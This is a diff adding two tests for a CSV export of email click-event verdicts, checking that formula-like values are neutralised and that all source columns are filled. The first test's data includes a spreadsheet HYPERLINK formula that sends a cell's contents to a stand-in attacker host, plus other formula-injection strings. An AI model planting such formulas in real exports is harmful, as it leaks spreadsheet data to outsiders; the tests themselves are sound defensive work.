@@ -10,6 +10,8 @@ import {
 import { formatCount, formatRate } from '../../src/ui/format';
 import { realisticCampaign, realisticReport } from './fixtures/realistic-campaign';
 import { emptySummary } from '../setup/summary';
+import { describeReason } from '../../src/classifier/reasons';
+import { vendorName } from '../../src/shared/vendors';
 
 const campaign = realisticCampaign();
 const report = realisticReport(campaign);
@@ -64,6 +66,39 @@ describe('buildEventsCsv', () => {
     };
     const { data } = parseCsv(buildEventsCsv([verdict]));
     expect(data[0]!.recipient).toBe(`'${verdict.recipient}`);
+  });
+
+  it('defuses a formula followed by a line break (papaparse’s own pattern has no `s` flag and missed it)', () => {
+    const verdict: EventVerdict = { sourceIndex: 0, type: 'click', recipient: 'ann@example.org', label: 'scanner', score: 0.9, reasons: ['bot-ua'] };
+    const agent = '=HYPERLINK("http://evil.example/?"&A1,"Open")\nMozilla/5.0';
+    const { data } = parseCsv(buildEventsCsv([verdict], [{ sourceIndex: 0, type: 'click', userAgent: agent, url: '@SUM(1+1)\r\nx', ip: '+1' }]));
+    expect(data[0]!.userAgent).toBe(`'${agent}`);
+    expect(data[0]!.url).toBe("'@SUM(1+1)\r\nx");
+    expect(data[0]!.ip).toBe("'+1");
+    // Plain values are left as they are.
+    expect(data[0]!.recipient).toBe('ann@example.org');
+  });
+
+  it('fills every column the source had, with reasons as sentences beside the codes and vendor names', () => {
+    const { data } = parseCsv(buildEventsCsv(report.verdicts, campaign.events));
+    const bySource = new Map(campaign.events.map((event) => [event.sourceIndex, event]));
+    for (const row of data) {
+      const event = bySource.get(Number(row.index))!;
+      const verdict = report.verdicts.find((candidate) => candidate.sourceIndex === Number(row.index))!;
+      // Every field the event carried is in its column.
+      if (event.ip !== undefined) expect(row.ip).toBe(event.ip);
+      if (event.userAgent !== undefined) expect(row.userAgent).toBe(event.userAgent);
+      if (event.url !== undefined) expect(row.url).toBe(event.url);
+      if (event.timestamp !== undefined) expect(Date.parse(row.timestamp!)).toBe(event.timestamp);
+      if (event.messageId !== undefined) expect(row.messageId).toBe(event.messageId);
+      expect(row.reason_sentences).toBe(verdict.reasons.map(describeReason).join(' | '));
+      if (verdict.vendor) expect(row.vendor_name).toBe(vendorName(verdict.vendor));
+    }
+    // The realistic campaign has times, addresses, agents and links: none of those columns is empty throughout.
+    for (const column of ['timestamp', 'ip', 'userAgent', 'url', 'reason_sentences']) {
+      expect(data.some((row) => row[column] !== ''), column).toBe(true);
+    }
+    expect(data.some((row) => row.vendor_name !== '' && row.vendor_name !== row.vendor)).toBe(true);
   });
 });
 
